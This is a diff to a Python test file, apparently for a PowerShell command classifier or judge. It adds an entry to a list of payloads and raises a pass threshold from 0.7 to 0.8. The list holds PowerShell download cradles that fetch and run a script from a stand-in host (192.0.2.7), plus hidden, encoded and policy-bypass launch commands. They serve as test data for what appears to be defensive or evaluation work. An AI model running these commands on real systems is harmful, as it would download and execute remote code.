@@ -28,6 +28,7 @@ def encoded(text: str) -> str:
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
 PAYLOADS = [
     CRADLE,
+    "$u = 'http://192.0.2.7'\niex(new-object net.webclient).downloadstring('http://192.0.2.7/a.ps1')\nInvoke-Check -x",
     f"powershell.exe -nop -w hidden -enc {encoded(CRADLE)}",
     f"powershell -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {encoded('Get-Process; whoami')}",
     "powershell.exe -ep bypass -File C:\\x\\a.ps1",
@@ -160,4 +161,4 @@ def test_real_commands_keep_their_meaning(shared_data: Path) -> None:
         rows = [row for row in map(json.loads, file) if row["executor"] == "powershell"]
     texts = [re.sub(r"#\{(\w+)\}", r"\1", row["command"]).strip() for row in rows]
     pairs = chains(Random(0).sample(texts, 200), 4, 3)
-    assert share(pairs, judge(pairs)) >= 0.7
+    assert share(pairs, judge(pairs)) >= 0.8
